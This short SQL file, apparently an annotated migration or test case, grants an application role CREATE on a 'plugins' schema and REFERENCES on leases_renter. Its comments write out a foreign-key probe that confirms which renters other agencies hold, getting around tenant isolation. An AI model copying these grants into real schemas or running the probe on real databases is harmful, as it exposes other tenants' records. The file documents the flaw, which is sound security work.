-- With REFERENCES and a schema to create tables in, the application builds a probe whose foreign key tells
-- which renters other agencies have.
-- about: leases_renter, plugins, hf_leasehold_app
-- as: hf_leasehold_app
-- exploit: SET request.jwt.claims = '{"sub":"a0000000-0000-4000-8000-000000000001","aal":"aal1"}';
-- exploit: CREATE TABLE plugins.probe (a uuid, r integer, FOREIGN KEY (a,
-- exploit:   r) REFERENCES public.leases_renter (agency_id, id));
-- exploit: INSERT INTO plugins.probe VALUES ('b0000000-0000-4000-8000-000000000000', 52);
-- shows: INSERT 0 1
-- Plugins keep tables of their own and refer to renters.
CREATE SCHEMA plugins;
GRANT USAGE, CREATE ON SCHEMA plugins TO hf_leasehold_app;
GRANT REFERENCES ON leases_renter TO hf_leasehold_app;
